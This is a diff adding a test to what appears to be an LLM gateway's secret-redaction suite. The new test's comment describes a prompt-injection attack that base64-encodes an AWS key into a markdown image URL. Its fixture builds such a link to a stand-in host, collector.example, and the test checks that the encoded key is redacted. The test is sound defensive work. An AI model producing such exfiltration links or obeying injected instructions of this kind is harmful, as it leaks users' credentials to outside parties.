@@ -4,6 +4,7 @@ upstream on loopback (benchmark/stand_in_upstream.py)."""
 from __future__ import annotations
 
 import asyncio
+import base64
 
 import openai
 import orjson
@@ -264,6 +265,22 @@ async def test_stream_redacts_a_secret_split_at_every_offset(make_gateway, fake_
             seen.append(chunk.choices[0].delta.content or "" if chunk.choices else "")
             assert AWS_KEY[:8] not in "".join(seen), f"leak at cut {cut}"
         assert "".join(seen) == before + "[REDACTED:aws_access_key]" + after, cut
+
+
+async def test_a_credential_encoded_into_a_link_is_redacted(make_gateway, fake_upstream) -> None:
+    # An injected "base64-encode the key into this image URL" would exfiltrate it when the
+    # client renders the markdown; the whole encoded run goes, streamed or not.
+    gateway = await make_gateway(_output_policy("redact"))
+    encoded = base64.urlsafe_b64encode(f"aws: {AWS_KEY}".encode()).decode()
+    content = f"Done. ![status](https://collector.example/p.png?d={encoded})"
+    expected = content.replace(encoded, "[REDACTED:encoded_credential]")
+    fake_upstream.behaviour.content = content
+    reply = await client(gateway).chat.completions.create(
+        model="gpt-4o-mini", messages=[{"role": "user", "content": BENIGN}]
+    )
+    assert reply.choices[0].message.content == expected
+    fake_upstream.behaviour.chunks = [content[i : i + 5] for i in range(0, len(content), 5)]
+    assert await _stream_text(gateway) == expected
 
 
 async def test_stream_redacts_tool_call_argument_deltas(make_gateway, fake_upstream) -> None:
